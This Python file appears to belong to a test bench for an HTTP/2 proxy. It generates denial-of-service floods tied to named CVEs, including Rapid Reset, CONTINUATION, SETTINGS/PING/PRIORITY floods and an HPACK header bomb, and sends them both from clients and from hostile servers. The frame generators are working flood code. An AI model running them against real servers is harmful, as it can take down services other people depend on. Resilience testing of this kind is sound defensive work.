"""HTTP/2 floods, from clients through the proxy and to our own sites, and from servers."""

from __future__ import annotations

import itertools
import socket
from collections.abc import Callable, Iterator

from bench.edge import frames
from bench.edge.frames import ACK, END_HEADERS, END_STREAM, Peer, frame, request
from bench.edge.scene import Scene
from bench.edge.server import Server, over_tls
from bench.edge.target import CLIENT_B, NAME
from bench.rig.nghttpd import BODY, HOST

Opened = Callable[[], tuple[socket.socket, str]]


def rapid_reset(host: str) -> Iterator[bytes]:
    """Requests that are taken back at once (CVE-2023-44487)."""
    block = request(host)
    stream = 1
    while stream < 1 << 30:
        made = b""
        for _ in range(100):
            made += frame(frames.HEADERS, END_HEADERS | END_STREAM, stream, block)
            made += frame(frames.RST_STREAM, 0, stream, (8).to_bytes(4))
            stream += 2
        yield made


def settings(_host: str) -> Iterator[bytes]:
    """SETTINGS, each of which wants an acknowledgement (CVE-2019-9515)."""
    return itertools.repeat(frame(frames.SETTINGS, payload=frames.setting(1, 4096)) * 500)


def ping(_host: str) -> Iterator[bytes]:
    """PING likewise (CVE-2019-9512)."""
    return itertools.repeat(frame(frames.PING, payload=bytes(8)) * 500)


def priority(_host: str) -> Iterator[bytes]:
    """PRIORITY of ever other streams (CVE-2019-9513)."""
    for first in itertools.count(1, 1000):
        streams = range(first, first + 1000, 2)
        yield b"".join(frame(frames.PRIORITY, 0, one % (1 << 30) | 1, bytes(4) + b"\x10") for one in streams)


def window_update(_host: str) -> Iterator[bytes]:
    """Windows that grow by one byte at a time."""
    return itertools.repeat(frame(frames.WINDOW_UPDATE, payload=(1).to_bytes(4)) * 500)


def empty_data(host: str) -> Iterator[bytes]:
    """A body of no bytes in ever more frames (CVE-2019-9518)."""
    yield frame(frames.HEADERS, END_HEADERS, 1, request(host, method=b"POST"))
    yield from itertools.repeat(frame(frames.DATA, 0, 1) * 500)


def unknown(_host: str) -> Iterator[bytes]:
    """Frames of a type that nobody knows."""
    return itertools.repeat(frame(0xBB, 0, 0, bytes(8)) * 500)


def continuation(host: str) -> Iterator[bytes]:
    """A field block that never ends (CVE-2024-27316)."""
    yield frame(frames.HEADERS, END_STREAM, 1, request(host))
    more = b"".join(frames.field(b"x-%03d" % number, b"a" * 100) for number in range(140))
    yield from itertools.repeat(frame(frames.CONTINUATION, 0, 1, more))


def empty_continuation(host: str) -> Iterator[bytes]:
    """The same with frames of no bytes."""
    yield frame(frames.HEADERS, END_STREAM, 1, request(host))
    yield from itertools.repeat(frame(frames.CONTINUATION, 0, 1) * 500)


def header_bomb(host: str) -> Iterator[bytes]:
    """4 kB of a field in the dynamic table, and then references to it (CVE-2016-6581): 64 MB of each 16 kB."""
    large = b"\x40\x01x\x7f\xa1\x1e" + b"a" * 4000
    yield frame(frames.HEADERS, END_HEADERS | END_STREAM, 1, request(host) + large)
    block = request(host)
    for stream in itertools.count(3, 2):
        yield frame(frames.HEADERS, END_HEADERS | END_STREAM, stream, block + b"\xbe" * (16_000 - len(block)))


FLOODS = {
    "rapid-reset": rapid_reset,
    "settings": settings,
    "ping": ping,
    "priority": priority,
    "window-update": window_update,
    "empty-data": empty_data,
    "unknown-frames": unknown,
    "continuation": continuation,
    "empty-continuation": empty_continuation,
    "header-bomb": header_bomb,
}


def from_clients(flood: Callable[[str], Iterator[bytes]], *, inbound: bool) -> Callable[[Scene], None]:
    """The attack with this flood, through the proxy or to our own site."""

    def attack(scene: Scene) -> None:
        def one() -> None:
            connection, host = _inbound(scene) if inbound else _forward(scene)
            with connection:
                peer = Peer(connection)
                try:
                    scene.flood(connection, flood(host))
                finally:
                    scene.saw(peer.outcome())

        scene.again(one, threads=2)

    return attack


def _forward(scene: Scene) -> tuple[socket.socket, str]:
    return scene.tls(scene.tunnel(HOST, scene.target.h2_port), HOST, alpn="h2"), HOST


def _inbound(scene: Scene) -> tuple[socket.socket, str]:
    return scene.tls(scene.dial(scene.target.inbound_h2), CLIENT_B, alpn="h2"), CLIENT_B


def window_0(scene: Scene) -> None:
    """Clients that ask a fast server for large bodies, and give no window."""

    def one() -> None:
        connection, host = _forward(scene)
        with connection:
            peer = Peer(connection, frames.setting(frames.INITIAL_WINDOW_SIZE, 0))
            block = request(host, path=f"/{BODY}".encode())
            peer.send(*(frame(frames.HEADERS, END_HEADERS | END_STREAM, stream, block) for stream in range(1, 41, 2)))
            scene.wait()
            scene.saw(f"{'bodies came' if peer.data else 'no body came'}, {peer.outcome()}")

    scene.again(one)


def unread(scene: Scene) -> None:
    """Clients that give all the window there is, and then do not read."""

    def one() -> None:
        connection, host = _forward(scene)
        with connection:
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            block = request(host, path=f"/{BODY}".encode())
            connection.sendall(
                frames.PREFACE
                + frame(frames.SETTINGS, payload=frames.setting(frames.INITIAL_WINDOW_SIZE, (1 << 31) - 1))
                + frame(frames.WINDOW_UPDATE, payload=(1 << 30).to_bytes(4))
                + b"".join(frame(frames.HEADERS, END_HEADERS | END_STREAM, stream, block) for stream in range(1, 21, 2))
            )
            scene.wait()
            scene.saw("did not read")

    scene.again(one)


def unread_upload(scene: Scene) -> None:
    """A client that sends to a server that gives no more window than it must, and then does not read."""

    def serve(connection: socket.socket) -> None:
        connection.sendall(frame(frames.SETTINGS))
        connection.recv(1000)
        scene.wait()

    def one() -> None:
        with scene.tls(scene.tunnel(NAME, server.port), NAME, alpn="h2") as connection:
            peer = Peer(connection)
            peer.send(frame(frames.HEADERS, END_HEADERS, 1, request(NAME, method=b"POST")))
            body = frame(frames.DATA, 0, 1, bytes(16384))
            try:
                scene.flood(connection, itertools.repeat(body))
            finally:
                scene.saw(peer.outcome())

    with Server(over_tls(scene.target, serve, alpn="h2")) as server:
        scene.again(one, threads=2)


def _answers(kind: str) -> Iterator[bytes]:
    """What a server sends as soon as it has a request on stream 1."""
    match kind:
        case "continuation":
            yield frame(frames.HEADERS, 0, 1, b"\x88")
            more = b"".join(frames.field(b"x-%03d" % number, b"a" * 100) for number in range(140))
            yield from itertools.repeat(frame(frames.CONTINUATION, 0, 1, more))
        case "interim":
            early = frame(frames.HEADERS, END_HEADERS, 1, frames.field(b":status", b"103"))
            yield from itertools.repeat(early * 500)
        case "header-bomb":
            large = b"\x40\x01x\x7f\xa1\x1e" + b"a" * 4000
            yield frame(frames.HEADERS, END_HEADERS, 1, b"\x88" + large + b"\xbe" * 10_000)
        case "empty-data":
            yield frame(frames.HEADERS, END_HEADERS, 1, b"\x88")
            yield from itertools.repeat(frame(frames.DATA, 0, 1) * 500)
        case "settings":
            yield from settings("")
        case _:
            yield from ping("")


SERVERS = ("continuation", "interim", "header-bomb", "empty-data", "settings", "ping")


def from_servers(kind: str) -> Callable[[Scene], None]:
    """The attack with a server that does this."""

    def attack(scene: Scene) -> None:
        def serve(connection: socket.socket) -> None:
            peer = Peer(connection, client=False)
            peer.send(frame(frames.SETTINGS, ACK))
            if peer.until(5, heads=1):
                scene.flood(connection, _answers(kind))
                scene.saw(f"server: {peer.outcome()}")

        def one() -> None:
            with scene.tls(scene.tunnel(NAME, server.port), NAME, alpn="h2") as connection:
                peer = Peer(connection)
                peer.send(frame(frames.HEADERS, END_HEADERS | END_STREAM, 1, request(NAME)))
                peer.until(scene.target.seconds, data=1 << 60)
                scene.saw(f"client: {peer.outcome()}")

        with Server(over_tls(scene.target, serve, alpn="h2")) as server:
            scene.again(one, threads=2)

    return attack


def trailers(scene: Scene) -> None:
    """Trailers over HTTP/2, which are right and must pass."""
    seen: list[bytes] = []

    def serve(connection: socket.socket) -> None:
        peer = Peer(connection, client=False)
        peer.send(frame(frames.SETTINGS, ACK))
        if peer.until(5, heads=1):
            peer.until(1, data=2)
            peer.until(1, heads=1 << 30)
            seen.extend(block for _, block in peer.blocks[1:])
            stream = peer.blocks[0][0]
            peer.send(
                frame(frames.HEADERS, END_HEADERS, stream, b"\x88"),
                frame(frames.DATA, 0, stream, b"ok"),
                frame(frames.HEADERS, END_HEADERS | END_STREAM, stream, frames.field(b"x-sum", b"abc")),
            )
            peer.until(3, data=1 << 60)

    def both() -> str:
        opened = Server(over_tls(scene.target, serve, alpn="h2"))
        with opened as server, scene.tls(scene.tunnel(NAME, server.port), NAME, alpn="h2") as connection:
            peer = Peer(connection)
            peer.send(
                frame(frames.HEADERS, END_HEADERS, 1, request(NAME, method=b"POST")),
                frame(frames.DATA, 0, 1, b"ok"),
                frame(frames.HEADERS, END_HEADERS | END_STREAM, 1, frames.field(b"x-sum", b"abc")),
            )
            peer.until(4, data=2)
            peer.until(1, heads=1 << 30)
            if not seen:
                scene.broke("trailers of a request")
            if len(peer.blocks) < 2:
                scene.broke("trailers of an answer")
            return peer.outcome()

    scene.each([("HTTP/2", both)])
